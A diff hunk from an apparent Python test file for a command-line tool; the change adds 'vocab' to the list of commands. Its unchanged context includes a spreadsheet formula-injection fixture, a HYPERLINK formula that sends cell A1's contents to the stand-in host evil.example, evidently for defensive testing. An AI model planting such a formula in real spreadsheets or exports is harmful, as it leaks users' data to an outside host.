@@ -27,7 +27,7 @@ from test_run import FI, good
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CLEAN_ENV = {v: None for v in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "LADDER_API_KEY", "LADDER_BASE_URL",
                                "LADDER_MODEL", "LADDER_GGUF", "LADDER_JUDGE_MODEL")}
-COMMANDS = ("validate", "plan", "run", "check", "logs", "init", "report", "compare", "export", "review", "publish")
+COMMANDS = ("validate", "plan", "run", "check", "logs", "init", "report", "compare", "export", "review", "publish", "vocab")
 
 
 def hostile(body: dict) -> dict:
